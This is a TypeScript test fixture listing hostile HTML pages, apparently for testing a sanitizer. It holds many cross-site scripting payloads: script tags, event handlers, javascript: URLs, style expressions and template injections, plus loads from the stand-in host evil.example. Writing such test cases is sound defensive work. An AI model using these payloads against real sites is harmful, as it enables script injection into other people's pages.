/** Hostile pages that try to run or load something by elements, handlers or styles. */
import { type HostileCase, page } from "./case.js";

/** Scripts, event handlers, frames, forms, styles: what runs or loads by itself. */
export const SCRIPTS: readonly HostileCase[] = [
  ["script", page("<script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT><script/x>alert(1)</script/x>")],
  ["script in pieces", page("<scr<script>ipt>alert(1)</scr</script>ipt><<script>alert(1)//<</script>")],
  ["script module", page("<script type=module>alert(1)</script><link rel=modulepreload href=//evil.example/m.js>")],
  [
    "event handlers",
    page(
      "<img src=x onerror=alert(1)><p onclick=alert(1) OnMouseOver=alert(1)>x<b onfocus=alert(1) tabindex=0 autofocus>y",
    ),
  ],
  [
    "handler behind a slash",
    page("<img/src=x/onerror=alert(1)><img src=x\tonerror\n=\nalert(1)><img src='x'onerror=alert(1)>"),
  ],
  [
    "handler on every element",
    page(
      "<h1 onclick=alert(1)>a</h1><ul onclick=alert(1)><li onclick=alert(1)>b</ul><table onclick=alert(1)><tr onclick=alert(1)><td onclick=alert(1)>c</table>",
    ),
  ],
  [
    "handlers of animation",
    page(
      "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=alert(1)>x</p><b ontransitionend=alert(1) style='transition:all 1s'>y</b>",
    ),
  ],
  [
    "handlers of body",
    "<!doctype html><body onload=alert(1) onpageshow=alert(1) onhashchange=alert(1) onresize=alert(1)><p>Words before",
  ],
  ["details", page("<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary>y</details>")],
  [
    "media",
    page(
      "<video src=//evil.example/v onerror=alert(1) poster=//evil.example/p autoplay></video><audio src onloadstart=alert(1)><source onerror=alert(1)></audio><track onerror=alert(1) src=x>",
    ),
  ],
  [
    "marquee and old elements",
    page(
      "<marquee onstart=alert(1)>x</marquee><keygen autofocus onfocus=alert(1)><isindex type=image src=1 onerror=alert(1)><bgsound src=//evil.example/s><layer src=//evil.example/l></layer>",
    ),
  ],
  [
    "frames",
    page(
      "<iframe src=javascript:alert(1)></iframe><iframe srcdoc='<script>parent.alert(1)</script>'></iframe><object data=//evil.example/o></object><embed src=//evil.example/e><applet code=x></applet><portal src=//evil.example/></portal><fencedframe></fencedframe>",
    ),
  ],
  [
    "frameset",
    "<!doctype html><frameset onload=alert(1)><frame src=javascript:alert(1)><frame src=//evil.example/></frameset>",
  ],
  [
    "forms",
    page(
      "<form action=javascript:alert(1) id=f><button formaction=javascript:alert(1)>x</button><input autofocus onfocus=alert(1)><input type=image src=//evil.example/i formaction=//evil.example/></form><button form=f>y</button><isindex action=javascript:alert(1)>",
    ),
  ],
  [
    "select and datalist",
    page(
      "<select autofocus onfocus=alert(1)><option><style></select><img src=x onerror=alert(1)></style></select><datalist><option onclick=alert(1)></datalist>",
    ),
  ],
  [
    "style sheets",
    page(
      "<style>@import '//evil.example/a.css';body{background:url(//evil.example/b.png)}</style><link rel=stylesheet href=//evil.example/c.css><link rel=preload as=image href=//evil.example/d.png><link rel=prefetch href=//evil.example/e>",
    ),
  ],
  [
    "style attribute",
    page(
      "<p style='background:url(//evil.example/b.png);behavior:url(//evil.example/h.htc);-moz-binding:url(//evil.example/x.xml#x)'>x</p><p style='width:expression(alert(1))'>y</p><p style='position:fixed;inset:0;z-index:9999'>z</p>",
    ),
  ],
  [
    "style that ends early",
    page("<style>/*</style><img src=x onerror=alert(1)>*/</style><style><!--</style><script>alert(1)//--></script>"),
  ],
  [
    "background attributes",
    page(
      "<table background=//evil.example/b.png><tr><td background=//evil.example/c.png>x</table><font face='x' color='\"><script>alert(1)</script>'>y</font>",
    ),
  ],
  [
    "meta",
    "<!doctype html><meta http-equiv=refresh content='0;url=javascript:alert(1)'><meta http-equiv=refresh content='0;url=//evil.example/'><meta http-equiv=set-cookie content='a=b'><p>Words before<meta http-equiv=refresh content='0;url=//evil.example/'>",
  ],
  [
    "base",
    "<!doctype html><base href='javascript:alert(1)//'><base href=//evil.example/ target=_top><p>Words before<a href='x'>x</a>",
  ],
  [
    "custom elements",
    page(
      "<x-run onclick=alert(1) is=x-evil>x</x-run><p is=x-evil slot=y part=z>x</p><template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    ),
  ],
  [
    "template",
    page(
      "<template><img src=x onerror=alert(1)><script>alert(1)</script></template><template><template></template><img src=x onerror=alert(1)></template>",
    ),
  ],
  [
    "noscript",
    page("<noscript><img src=//pictures.example/p><p title='</noscript><img src=x onerror=alert(1)>'></noscript>"),
  ],
  [
    "popover and invokers",
    page(
      "<button popovertarget=x onclick=alert(1)>x</button><div popover id=x onbeforetoggle=alert(1)>y</div><button command=show-modal commandfor=x>z</button><dialog open oncancel=alert(1)>d</dialog>",
    ),
  ],
  [
    "ping, download and target",
    page("<a href=https://page.example/ ping=//evil.example/ target=_top download=x.exe rel=opener>x</a>"),
  ],
  [
    "image maps and srcset",
    page(
      "<img usemap=#m src=x srcset='//evil.example/s 1x' sizes=1px lowsrc=//evil.example/l longdesc=javascript:alert(1) dynsrc=//evil.example/d><map name=m><area href=javascript:alert(1) onclick=alert(1)></map><picture><source srcset=//evil.example/t></picture>"
        .replaceAll("//evil.example/s ", "javascript:alert(1) ")
        .replaceAll("//evil.example/t", "javascript:alert(1)"),
    ),
  ],
  [
    "XML islands",
    page(
      "<?xml-stylesheet href=//evil.example/x.xsl?><xml id=x><a><b>&lt;script>alert(1)&lt;/script></b></a></xml><![CDATA[<script>alert(1)</script>]]>",
    ),
  ],
  [
    "conditional comments",
    page("<!--[if gte IE 4]><script>alert(1)</script><![endif]--><comment><img src=x onerror=alert(1)></comment>"),
  ],
  [
    "server includes and templates",
    page(
      "<p>&lt;?php alert(1) ?&gt; {{constructor.constructor('alert(1)')()}} #{alert(1)} [[alert(1)]] &lt;%= alert(1) %&gt;</p>",
    ),
  ],
];
